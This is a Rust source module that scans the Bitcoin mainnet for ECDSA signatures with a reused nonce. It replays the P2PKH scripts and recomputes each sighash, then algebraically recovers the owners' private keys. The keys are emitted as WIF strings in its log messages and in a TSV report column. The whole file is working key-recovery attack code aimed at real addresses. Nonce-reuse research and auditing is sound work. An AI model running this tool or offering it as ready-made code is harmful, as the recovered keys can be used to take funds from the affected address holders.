//! Script replay and private key recovery
//!
//! For every occurrence of a duplicate r the driver re-fetches the
//! spending transaction and its funding output, replays the scripts up
//! to `OP_CHECKSIG`, recomputes the sighash the signature committed to,
//! and verifies it. Occurrences are then grouped by (address, r): only a
//! group of two or more signatures under one address leaks the key; an r
//! shared across different addresses is reported but not exploitable.
//!
//! Every result is emitted as one TSV row per occurrence, with the WIF
//! column filled in when recovery succeeded. All per-record failures are
//! logged and skipped.

pub mod engine;
pub mod keymath;

use crate::block::script::pushed_data;
use crate::detect::{DuplicateMap, SigLocation};
use crate::storage::tx_index::TxIndex;
use crate::BlockReader;
use anyhow::{bail, Context, Result};
use bitcoin::hashes::Hash;
use bitcoin::secp256k1::{self, ecdsa, Secp256k1, SecretKey, VerifyOnly};
use bitcoin::{Address, BlockHash, Network, PrivateKey, Txid};
use engine::ScriptEngine;
use keymath::SigScalars;
use log::{info, warn};
use ripemd::Ripemd160;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::Write;

/// HASH160 = RIPEMD160(SHA256(data))
pub fn hash160(data: &[u8]) -> [u8; 20] {
    let sha = Sha256::digest(data);
    Ripemd160::digest(sha).into()
}

/// One duplicate-r occurrence with everything the report and the
/// recovery algebra need. Owns all of its data; reporting is strictly
/// forward so nothing points back into the chain.
pub struct Occurrence {
    pub r_decimal: String,
    pub loc: SigLocation,
    pub block_sha: BlockHash,
    pub block_time: u32,
    pub tx_sha: Txid,
    pub prev_height: u32,
    pub prev_block_sha: BlockHash,
    pub prev_block_time: u32,
    pub address: String,
    pub compressed: bool,
    pub scalars: SigScalars,
    pub pubkey: secp256k1::PublicKey,
}

/// Counters for the recovery stage.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct RecoverySummary {
    pub rows: u64,
    pub keys_recovered: u64,
    pub occurrences_skipped: u64,
}

/// Rebuild the full context of one occurrence.
fn build_occurrence(
    reader: &BlockReader,
    tx_index: &TxIndex,
    r_decimal: &str,
    loc: SigLocation,
) -> Result<Occurrence> {
    let block = reader
        .read_block(loc.height)?
        .with_context(|| format!("no block at height {}", loc.height))?;
    let block_sha = block.block_hash();
    let block_time = block.header.time;

    let tx = block
        .txdata
        .get(loc.tx_index as usize)
        .with_context(|| format!("block {} has no tx {}", loc.height, loc.tx_index))?;
    let txin = tx
        .input
        .get(loc.txin_index as usize)
        .with_context(|| format!("tx {} has no input {}", loc.tx_index, loc.txin_index))?;

    let prev_outpoint = txin.previous_output;
    let prev_loc = tx_index
        .get(&prev_outpoint.txid)?
        .with_context(|| format!("funding tx {} not indexed", prev_outpoint.txid))?;
    let prev_block = reader
        .read_block(prev_loc.height)?
        .with_context(|| format!("no block at height {}", prev_loc.height))?;
    let prev_tx = prev_block
        .txdata
        .get(prev_loc.tx_index as usize)
        .with_context(|| format!("block {} has no tx {}", prev_loc.height, prev_loc.tx_index))?;
    if prev_tx.compute_txid() != prev_outpoint.txid {
        bail!("tx index entry for {} is stale", prev_outpoint.txid);
    }
    let prev_out = prev_tx
        .output
        .get(prev_outpoint.vout as usize)
        .with_context(|| format!("funding tx has no output {}", prev_outpoint.vout))?;

    if !prev_out.script_pubkey.is_p2pkh() {
        bail!("funding output is not P2PKH");
    }

    // A P2PKH scriptSig is <sig> <pubkey>; the trailing push is the key.
    let pushes = pushed_data(&txin.script_sig).context("scriptSig push walk")?;
    if pushes.len() < 2 {
        bail!(
            "scriptSig has {} pushes, expected signature and pubkey",
            pushes.len()
        );
    }
    let pubkey_bytes = pushes.last().expect("checked above").clone();

    let mut engine = ScriptEngine::new(
        txin.script_sig.as_bytes(),
        prev_out.script_pubkey.as_bytes(),
    )?;
    engine.run_to_checksig()?;

    let stack = engine.stack();
    if stack.len() < 2 {
        bail!("replay left {} stack elements, need 2", stack.len());
    }
    let sig_with_hashtype = &stack[0];
    if stack[1] != pubkey_bytes {
        bail!("replay stack pubkey differs from the scriptSig push");
    }

    let (&hash_type, sig_bytes) = sig_with_hashtype
        .split_last()
        .context("empty signature on stack")?;
    let subscript = engine::remove_sig_pushes(engine.subscript(), sig_bytes)?;
    let digest = engine::legacy_sighash(tx, loc.txin_index as usize, &subscript, hash_type)?;

    let signature = ecdsa::Signature::from_der(sig_bytes).context("signature DER parse")?;
    let scalars = SigScalars::new(&signature.serialize_compact(), digest)
        .context("signature scalar out of range")?;

    let pubkey = bitcoin::PublicKey::from_slice(&pubkey_bytes).context("pubkey parse")?;
    let address = Address::p2pkh(&pubkey, Network::Bitcoin);

    Ok(Occurrence {
        r_decimal: r_decimal.to_string(),
        loc,
        block_sha,
        block_time,
        tx_sha: tx.compute_txid(),
        prev_height: prev_loc.height,
        prev_block_sha: prev_block.block_hash(),
        prev_block_time: prev_block.header.time,
        address: address.to_string(),
        compressed: pubkey.compressed,
        scalars,
        pubkey: pubkey.inner,
    })
}

/// Try every pair in the group until one recovers the key.
fn recover_group(
    secp: &Secp256k1<VerifyOnly>,
    group: &[Occurrence],
) -> Result<SecretKey, keymath::RecoveryError> {
    let mut last_err = keymath::RecoveryError::SingularSDiff;

    for i in 0..group.len() {
        for j in (i + 1)..group.len() {
            match keymath::recover_pair(
                secp,
                &group[i].scalars,
                &group[j].scalars,
                &group[i].pubkey,
            ) {
                Ok(secret) => return Ok(secret),
                Err(e) => last_err = e,
            }
        }
    }

    Err(last_err)
}

fn wif_string(secret: SecretKey, compressed: bool) -> String {
    let key = if compressed {
        PrivateKey::new(secret, Network::Bitcoin)
    } else {
        PrivateKey::new_uncompressed(secret, Network::Bitcoin)
    };
    key.to_wif()
}

fn write_row(out: &mut impl Write, occ: &Occurrence, wif: Option<&str>) -> Result<()> {
    writeln!(
        out,
        "{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}",
        occ.loc.height,
        occ.block_sha,
        occ.block_time,
        occ.loc.tx_index,
        occ.tx_sha,
        occ.loc.txin_index,
        occ.prev_height,
        occ.prev_block_sha,
        occ.prev_block_time,
        occ.r_decimal,
        occ.address,
        wif.unwrap_or(""),
    )?;
    Ok(())
}

/// Process a duplicate map end to end and emit the TSV report.
pub fn run(
    reader: &BlockReader,
    tx_index: &TxIndex,
    duplicates: &DuplicateMap,
    out: &mut impl Write,
) -> Result<RecoverySummary> {
    let secp = Secp256k1::verification_only();
    let mut summary = RecoverySummary::default();

    // The same r under two different pubkeys is a curiosity, not a leak,
    // so grouping is by (address, r).
    let mut groups: BTreeMap<(String, String), Vec<Occurrence>> = BTreeMap::new();

    for (r_decimal, locations) in duplicates {
        for &loc in locations {
            match build_occurrence(reader, tx_index, r_decimal, loc) {
                Ok(occ) => {
                    groups
                        .entry((occ.address.clone(), r_decimal.clone()))
                        .or_default()
                        .push(occ);
                }
                Err(e) => {
                    summary.occurrences_skipped += 1;
                    warn!(
                        "skipping r {} at block {} tx {} txin {}: {:#}",
                        r_decimal, loc.height, loc.tx_index, loc.txin_index, e
                    );
                }
            }
        }
    }

    writeln!(
        out,
        "blkH\tblkSha\tblkTime\ttxIndex\ttxSha\ttxInIndex\tprevBlkH\tprevBlkSha\tprevBlkTime\tr\taddr\twif"
    )?;

    for ((address, r_decimal), group) in &groups {
        let wif = if group.len() < 2 {
            // r shared with a different address, or the rest of the
            // group was dropped above.
            None
        } else {
            info!(
                "[{}] repeated r value: {} ({} times)",
                address,
                r_decimal,
                group.len()
            );
            match recover_group(&secp, group) {
                Ok(secret) => {
                    let wif = wif_string(secret, group[0].compressed);
                    info!("recovered private key for {}: {}", address, wif);
                    summary.keys_recovered += 1;
                    Some(wif)
                }
                Err(e) => {
                    warn!("recovery failed for {} (r {}): {}", address, r_decimal, e);
                    None
                }
            }
        };

        for occ in group {
            write_row(out, occ, wif.as_deref())?;
            summary.rows += 1;
        }
    }

    Ok(summary)
}
